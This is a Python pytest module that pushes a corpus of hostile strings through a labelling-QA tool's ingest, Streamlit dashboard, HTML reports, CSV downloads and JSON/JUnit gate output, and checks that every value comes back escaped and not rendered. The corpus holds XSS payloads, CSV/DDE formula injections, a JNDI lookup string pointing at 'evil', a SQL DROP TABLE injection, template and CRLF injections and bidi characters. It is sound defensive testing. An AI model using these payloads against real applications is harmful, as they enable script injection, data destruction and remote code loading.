"""The hostile corpus through the whole path, on DuckDB and on PostgreSQL (issue 10, "Done when").

Hostile strings (Markdown links and images, Streamlit directives, HTML and script, plotly pseudo-HTML, CSV
formulas, template and SQL syntax, control and bidirectional characters, very long text) go in as project
name, client, team, annotator ids and label classes, through ``labelqa load`` (the validated ingest, not
direct inserts). Then every dashboard page, the weekly and the delivery HTML reports and the gate's JSON and
JUnit output are read back: nothing from data may render as markup, run, or be evaluated, and the values are
still there (escaped, not dropped). Every download a page offers on its default view is captured as the
bytes the browser would receive: no CSV cell a spreadsheet would evaluate, no raw markup in HTML.
"""
from __future__ import annotations

import csv
import html
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from analytics.db import make_engine, table_counts
from analytics.ingest import load_files
from analytics.render.csv import FORMULA_PREFIXES

APP = str(Path(__file__).resolve().parent.parent / "app.py")
T0 = pd.Timestamp("2026-09-07 09:00")  # Monday of 2026-W37

HOSTILE = [
    "[win](http://evil.example/p)", "![x](http://evil.example/i.png)", ":red[alarm] :material/home:",
    "<script>alert(1)</script>", "<b>bus</b>", "<a href='javascript:alert(1)'>x</a>", "<img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "{{7*7}}", "${jndi:ldap://evil/a}",
    "'; DROP TABLE annotations; --", "\u202eevil\u202c", "a\\b\\\\c", "`code` **bold** _it_", "# heading",
    "| a | b |", "x" * 300, "%0d%0aSet-Cookie: a=b", "&amp;&lt;", "<!-- c -->", "\"quoted\"", "émoji 🚗",
]
LABELS = HOSTILE[:12] + ["car"]       # label classes: the first twelve hostile strings and one plain one
TEAMS = [HOSTILE[0], HOSTILE[3], HOSTILE[13]]
ANNOTATORS = ["@evil", "=cmd|' /C calc'!A0", "<i>ann</i>", "plain"]


def _write_files(d: Path) -> list[Path]:
    items = [f"h{k:02d}" for k in range(52)]
    truth = {it: LABELS[k % len(LABELS)] for k, it in enumerate(items)}
    ann = [{"annotation_id": f"ha{k:02d}{j}", "item_id": it, "annotator_id": ANNOTATORS[(k + j) % 4],
            "label": truth[it] if (k + j) % 6 else "car", "created_at": T0 + pd.Timedelta(hours=3 * k + j),
            "duration_s": 20, "batch_id": "hb1"}
           for k, it in enumerate(items) for j in range(2)]
    frames = {
        "projects": pd.DataFrame({"project_id": ["hostile"], "name": [HOSTILE[1] + " " + HOSTILE[4]],
                                  "client": [HOSTILE[7]]}),
        "label_classes": pd.DataFrame({"project_id": "hostile", "label": LABELS,
                                       "tier": ["critical" if k == 3 else "standard" for k in range(len(LABELS))],
                                       "description": HOSTILE[12:12 + len(LABELS)]}),
        "annotators": pd.DataFrame({"annotator_id": ANNOTATORS, "team": TEAMS + [TEAMS[0]],
                                    "display_name": [HOSTILE[5], HOSTILE[6], HOSTILE[16], "Plain"]}),
        "items": pd.DataFrame({"item_id": items, "project_id": "hostile", "split": "train",
                               "source": [HOSTILE[k % len(HOSTILE)] for k in range(52)]}),
        "batches": pd.DataFrame({"batch_id": ["hb1"], "project_id": ["hostile"], "name": [HOSTILE[2]],
                                 "delivered_at": [T0 + pd.Timedelta(days=9)]}),
        "annotations": pd.DataFrame(ann),
        "gold_labels": pd.DataFrame({"item_id": items[::2], "label": [truth[i] for i in items[::2]],
                                     "source": "expert"}),
    }
    paths = []
    for name, df in frames.items():
        p = d / f"{name}.csv"
        df.to_csv(p, index=False)
        paths.append(p)
    return paths


@pytest.fixture(params=["duckdb", "postgresql"])
def hostile_url(request, tmp_path):
    url = (f"duckdb:///{tmp_path / 'hostile.duckdb'}" if request.param == "duckdb"
           else request.getfixturevalue("pg_url"))
    loaded = load_files(url, _write_files(tmp_path))
    assert loaded["annotations"] == 104 and loaded["label_classes"] == len(LABELS)
    return url


def _raw_markup(text: str) -> list[str]:
    """Hostile strings that appear in ``text`` as written although they contain markup characters."""
    return [h for h in HOSTILE if any(c in h for c in "<>[]`*:") and h in text]


def test_values_survive_ingest_exactly(hostile_url):
    eng = make_engine(hostile_url, read_only=True)
    with eng.connect() as c:
        labels = set(pd.read_sql("SELECT label FROM label_classes WHERE project_id = 'hostile'", c)["label"])
        teams = set(pd.read_sql("SELECT team FROM annotators", c)["team"])
    assert labels == set(LABELS) and set(TEAMS) <= teams
    assert table_counts(eng)["gold_labels"] == 26
    eng.dispose()


def test_pages_render_hostile_values_literally(hostile_url, monkeypatch):
    from ui.common import PAGES

    monkeypatch.setenv("LABELQA_DB_URL", hostile_url)
    monkeypatch.delenv("LABELQA_THRESHOLDS", raising=False)
    downloads: list[tuple[str, str, bytes]] = []
    original = DeltaGenerator.download_button

    def capture(self, label, data, file_name=None, *args, **kwargs):
        raw = data() if callable(data) else data
        downloads.append((current[0], str(file_name), raw.encode("utf-8") if isinstance(raw, str) else bytes(raw)))
        return original(self, label, data, file_name, *args, **kwargs)

    current = ["overview"]
    monkeypatch.setattr(DeltaGenerator, "download_button", capture)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: capture(st._main, *a, **k))
    st.cache_data.clear()
    st.cache_resource.clear()
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params["project"] = "hostile"
    at.run()
    problems = []
    for key, (path, title, _icon, _url) in PAGES.items():
        current[0] = key
        if key != "overview":
            at.switch_page(path).run()
        if at.exception:
            problems.append(f"{key}: exception {[e.message for e in at.exception][:1]}")
            continue
        shown = "\n".join(str(e.value) for kind in ("markdown", "caption", "info", "warning", "error", "success",
                                                      "title", "header", "subheader") for e in at.get(kind))
        if leaked := _raw_markup(shown):
            problems.append(f"{key}: rendered as markup: {leaked[:3]}")
        for el in at.get("plotly_chart"):
            spec = el.proto.spec
            for h in ("<b>bus</b>", "<script>", "<img src=x", "<a href="):
                if h in spec:
                    problems.append(f"{key}: chart carries {h!r} unescaped")
    st.cache_data.clear()
    st.cache_resource.clear()
    assert not problems, "\n".join(problems)
    assert _download_problems(downloads) == []
    csvs = [d for d in downloads if d[1].endswith(".csv")]
    assert len(csvs) >= 5, [d[:2] for d in downloads]  # the tables' "Download CSV" buttons were captured
    assert any(b"'=HYPERLINK" in raw for _p, _f, raw in csvs)  # the hostile label is there, neutralised


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _download_problems(downloads: list[tuple[str, str, bytes]]) -> list[str]:
    """CSV cells a spreadsheet would evaluate, and raw markup in HTML downloads, as 'page file: what'."""
    problems = []
    for page, name, raw in downloads:
        text = raw.decode("utf-8")
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(text, newline="")):
                bad = [c for c in row if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
                problems += [f"{page} {name}: formula cell {c[:30]!r}" for c in bad]
        elif name.endswith(".html"):
            body = text.split("<body", 1)[-1]
            problems += [f"{page} {name}: raw {h!r}" for h in ("<script>alert(1)</script>", "<b>bus</b>",
                                                               "<img src=x onerror", "<i>ann</i>") if h in body]
    return problems


def _labelqa(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "analytics.cli", *args], capture_output=True, text=True,
                          timeout=300, cwd=cwd)


def test_reports_and_gate_output_escape_hostile_values(hostile_url, tmp_path):
    weekly, delivery = tmp_path / "weekly.html", tmp_path / "delivery.html"
    r = _labelqa("report", "weekly", "--db", hostile_url, "--project", "hostile", "--week", "2026-W37",
                 "--out", str(weekly), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    r = _labelqa("report", "delivery", "--db", hostile_url, "--project", "hostile", "--batch", "hb1",
                 "--out", str(delivery), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    for page in (weekly, delivery):
        doc = page.read_text(encoding="utf-8")
        body = doc.split("<body", 1)[-1]
        for h in ("<script>alert(1)</script>", "<b>bus</b>", "<a href='javascript:alert(1)'>",
                  "<img src=x onerror=alert(1)>", "<i>ann</i>", "<!-- c -->"):
            assert h not in body, (page.name, h)
        assert html.escape(HOSTILE[4], quote=False) in body or "&lt;b&gt;bus" in body  # still shown, escaped
    r = _labelqa("gate", "--db", hostile_url, "--project", "hostile", "--format", "json", cwd=tmp_path)
    assert r.returncode in (0, 1), r.stderr
    doc = json.loads(r.stdout)  # valid JSON whatever the labels contain
    assert doc["project_id"] == "hostile" and doc["checks"]
    labels_in_checks = {c.get("scope", "") for c in doc["checks"]}
    assert any(HOSTILE[3] in s for s in labels_in_checks)  # the raw value, JSON-encoded, not mangled
    r = _labelqa("gate", "--db", hostile_url, "--project", "hostile", "--format", "junit", cwd=tmp_path)
    assert r.returncode in (0, 1), r.stderr
    ET.fromstring(r.stdout)  # well-formed XML whatever the labels contain
